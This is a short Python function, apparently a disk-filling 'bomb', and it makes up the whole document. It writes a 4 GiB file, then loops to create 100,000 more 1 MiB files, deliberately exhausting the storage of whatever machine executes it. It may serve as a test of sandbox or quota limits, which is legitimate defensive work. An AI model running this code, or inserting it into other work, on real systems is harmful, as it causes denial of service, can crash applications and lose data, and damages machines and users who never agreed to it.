def bomb() -> int:
    """Fill the disk."""
    written = 0
    chunk = b"0" * (1 << 20)
    with open("huge.bin", "wb") as handle:
        while written < (4 << 30):
            handle.write(chunk)
            written += len(chunk)
    for index in range(100000):
        with open("small-" + str(index), "wb") as handle:
            handle.write(chunk)
        written += len(chunk)
    return written
